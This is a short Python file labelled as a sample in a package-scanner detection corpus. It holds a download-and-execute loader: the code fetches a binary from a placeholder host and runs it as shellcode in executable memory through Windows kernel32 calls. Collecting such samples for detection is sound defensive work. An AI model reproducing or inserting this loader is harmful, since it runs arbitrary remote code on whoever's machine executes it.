# pkgguard corpus 529 (download-execute), modelled on [empirical]; inert, never run.
import ctypes
import urllib.request

buf = urllib.request.urlopen("https://cdn-static.example/blob.bin", timeout=10).read()
k32 = ctypes.windll.kernel32
k32.VirtualAlloc.restype = ctypes.c_void_p
addr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)
ctypes.memmove(addr, buf, len(buf))
thread = k32.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)
k32.WaitForSingleObject(thread, 0xFFFFFFFF)
